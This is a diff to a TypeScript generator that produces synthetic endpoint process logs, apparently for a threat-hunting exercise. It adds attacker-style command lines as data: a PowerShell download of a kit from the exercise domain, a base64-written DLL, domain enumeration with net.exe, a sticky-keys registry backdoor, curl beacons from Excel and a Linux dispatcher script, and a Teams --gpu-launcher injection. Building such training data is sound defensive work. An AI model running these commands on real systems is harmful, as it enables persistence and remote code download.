@@ -1,5 +1,6 @@
 import { encodedCommand, files, infrastructure, processIds, timeline, victims } from '../attack.ts';
 import { type Host, hostOf, people, personOf, servers, workstations } from '../company.ts';
+import { exercise, exerciseTimeline } from '../exercise.ts';
 import {
   adminLaunches,
   engineerLaunches,
@@ -48,6 +49,7 @@ export function* deviceProcessEvents(world: World): Generator<Row> {
         );
   }
   yield* attack(world);
+  yield* exercised(world);
 }
 
 /** One process of the story: after so many seconds, parent, program, command line. */
@@ -117,6 +119,83 @@ function* attack(world: World): Generator<Row> {
       if (parent === 'powershell.exe') row.InitiatingProcessParentFileName = 'WINWORD.EXE';
       yield row;
     }
+}
+
+const binFolder = 'C:\\$Recycle.Bin\\S-1-5-21-1004336348-1177238915-682003330-500';
+
+/** What the player of the exercise runs; `%s` is the far side. */
+const played: readonly Step[] = [
+  [
+    0,
+    'explorer.exe',
+    'explorer.exe',
+    'powershell.exe',
+    'powershell.exe -NoProfile -Command "Invoke-WebRequest https://%s/kit.zip -OutFile kit.zip"',
+  ],
+  [75, 'powershell.exe', 'powershell.exe', 'cmd.exe', `cmd.exe /c ${binFolder}\\rt.exe --check`],
+  [76, 'cmd.exe', `cmd.exe /c ${binFolder}\\rt.exe --check`, 'rt.exe', `${binFolder}\\rt.exe --check`],
+  [
+    180,
+    'powershell.exe',
+    'powershell.exe',
+    'powershell.exe',
+    `powershell.exe -Command "[IO.File]::WriteAllBytes('rt.dll', [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA'))"`,
+  ],
+  [300, 'cmd.exe', 'cmd.exe', 'net.exe', 'net.exe user /domain'],
+  [311, 'cmd.exe', 'cmd.exe', 'net.exe', 'net.exe group "Backup Operators" /domain'],
+  [
+    540,
+    'cmd.exe',
+    'cmd.exe',
+    'reg.exe',
+    'reg.exe add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d C:\\Windows\\System32\\cmd.exe /f',
+  ],
+  [600, 'winlogon.exe', 'winlogon.exe', 'cmd.exe', '"C:\\Windows\\System32\\cmd.exe" sethc.exe 211'],
+  [
+    1200,
+    'EXCEL.EXE',
+    '"EXCEL.EXE" "C:\\Exercise\\Budget.xlsx"',
+    'cmd.exe',
+    'cmd.exe /c curl https://%s/ping',
+  ],
+  [
+    1500,
+    'msedge.exe',
+    '"msedge.exe"',
+    'Teams.exe',
+    '"Teams.exe" --gpu-launcher="cmd.exe /c start https://%s/"',
+  ],
+];
+
+function* exercised(world: World): Generator<Row> {
+  const random = world.random('DeviceProcessEvents exercise');
+  const account = accountOf(personOf(exercise.player));
+  const host = hostOf(exercise.host);
+  for (const [after, parent, parentCommand, file, text] of played) {
+    const command = text.replace('%s', exercise.domain);
+    const launch: Launch = { parent, parentCommand, file, command, weight: 1 };
+    const time = world.at(exerciseTimeline.handsOn) + after * second;
+    const row = processRow(random, time, host, account, launch);
+    if (file === 'rt.exe') row.FolderPath = `${binFolder}\\rt.exe`;
+    yield row;
+  }
+  const shell: Launch = {
+    parent: 'sh',
+    parentCommand: '/bin/sh /etc/NetworkManager/dispatcher.d/11-dhclient eth0 up',
+    file: 'sh',
+    command: `sh -c "curl https://${exercise.domain}/ping"`,
+    weight: 1,
+  };
+  const root: Account = {
+    name: 'root',
+    domain: exercise.linuxHost.toLowerCase(),
+    sid: '',
+    upn: '',
+    objectId: '',
+  };
+  const linux = processRow(random, world.at(exerciseTimeline.linux), hostOf(exercise.linuxHost), root, shell);
+  const unix = { FolderPath: '/usr/bin/sh', InitiatingProcessFolderPath: '/usr/bin/sh' };
+  yield { ...linux, ...unix, InitiatingProcessParentFileName: 'nm-dispatcher' };
 }
 
 function processRow(random: Random, time: number, host: Host, account: Account, launch: Launch): Row {
